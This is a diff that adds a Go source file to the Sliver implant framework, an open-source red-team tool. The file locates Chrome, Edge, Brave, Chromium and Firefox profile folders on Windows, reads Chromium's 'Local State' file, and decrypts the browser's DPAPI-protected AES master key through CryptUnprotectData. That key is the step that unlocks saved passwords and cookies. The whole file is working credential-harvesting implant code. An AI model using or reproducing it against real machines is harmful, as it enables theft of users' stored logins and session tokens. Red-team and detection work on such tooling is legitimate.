@@ -0,0 +1,88 @@
+package browser
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"unsafe"
+
+	"github.com/bishopfox/sliver/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+func chromiumBrowsers() []chromiumBrowser {
+	local := os.Getenv("LOCALAPPDATA")
+	return []chromiumBrowser{
+		{name: "chrome", userData: filepath.Join(local, "Google", "Chrome", "User Data")},
+		{name: "edge", userData: filepath.Join(local, "Microsoft", "Edge", "User Data")},
+		{name: "brave", userData: filepath.Join(local, "BraveSoftware", "Brave-Browser", "User Data")},
+		{name: "chromium", userData: filepath.Join(local, "Chromium", "User Data")},
+	}
+}
+
+func firefoxProfileDirs() []string {
+	return []string{filepath.Join(os.Getenv("APPDATA"), "Mozilla", "Firefox", "Profiles")}
+}
+
+// chromiumSecret - The AES key from "Local State", protected with the user's DPAPI key
+func chromiumSecret(browser chromiumBrowser) ([]byte, error) {
+	data, err := ioutil.ReadFile(filepath.Join(browser.userData, "Local State"))
+	if err != nil {
+		return nil, err
+	}
+	localState := &struct {
+		OSCrypt struct {
+			EncryptedKey string `json:"encrypted_key"`
+		} `json:"os_crypt"`
+	}{}
+	err = json.Unmarshal(data, localState)
+	if err != nil {
+		return nil, err
+	}
+	encryptedKey, err := base64.StdEncoding.DecodeString(localState.OSCrypt.EncryptedKey)
+	if err != nil {
+		return nil, err
+	}
+	if !bytes.HasPrefix(encryptedKey, []byte("DPAPI")) {
+		return nil, errors.New("Unknown key protection")
+	}
+	return unprotect(encryptedKey[len("DPAPI"):])
+}
+
+func unprotect(data []byte) ([]byte, error) {
+	if len(data) == 0 {
+		return nil, errors.New("Empty DPAPI blob")
+	}
+	in := &syscalls.DataBlob{Size: uint32(len(data)), Data: &data[0]}
+	out := &syscalls.DataBlob{}
+	err := syscalls.CryptUnprotectData(in, nil, nil, 0, 0, 0, out)
+	if err != nil {
+		return nil, err
+	}
+	defer windows.LocalFree(windows.Handle(uintptr(unsafe.Pointer(out.Data))))
+	plaintext := make([]byte, out.Size)
+	copy(plaintext, (*[1 << 30]byte)(unsafe.Pointer(out.Data))[:out.Size:out.Size])
+	return plaintext, nil
+}